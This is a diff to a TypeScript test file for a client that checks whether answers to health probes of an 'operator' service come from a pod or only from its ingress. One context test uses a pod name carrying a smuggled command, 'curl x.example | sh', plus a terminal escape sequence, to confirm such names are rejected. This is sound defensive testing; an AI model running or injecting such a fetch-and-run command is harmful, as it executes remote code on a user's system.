@@ -74,6 +74,31 @@ test.each(['null', '[1]', '<html></html>'])('a report that is no object is a fac
   expect(answer).toMatchObject({ pod: '', revision: '', facts: { body: 'no report' } });
 });
 
+test.each([
+  [
+    'no session',
+    { status: 503, body: 'no available server' },
+    /^No pod of operator answered, only its ingress \(503\)/,
+  ],
+  ['ready', { status: 502, body: '<html></html>' }, /^No pod of operator answered, only its ingress \(502\)/],
+  ['ready', { body: '<h1>Welcome</h1>' }, /^operator\.example does not serve operator/],
+  ['ready', { body: '{"status":"up"}' }, /^operator\.example does not serve operator/],
+] as const)('to "%s", %j is not from a pod', async (probe, answer, problem) => {
+  const client = clientOf(() => answer);
+  expect(await ask(client, 'operator', probe)).toMatchObject({
+    isOutside: true,
+    problem: expect.stringMatching(problem),
+  });
+});
+
+test.each([
+  ['whose header a proxy removes', { body: '{"ok":false}' }],
+  ['without a report', { headers: { 'x-served-by': 'operator-a' } }],
+])('a 503 of a pod %s is from that pod', async (_what, answer) => {
+  const client = clientOf(() => ({ status: 503, ...answer }));
+  expect(await ask(client, 'operator', 'ready')).not.toHaveProperty('isOutside');
+});
+
 test.each(['operator-a; curl x.example | sh', 'operator-a\u001b[2J'])(
   'what is no name of a pod (%j) does not become one, because names are printed in commands',
   async (name) => {
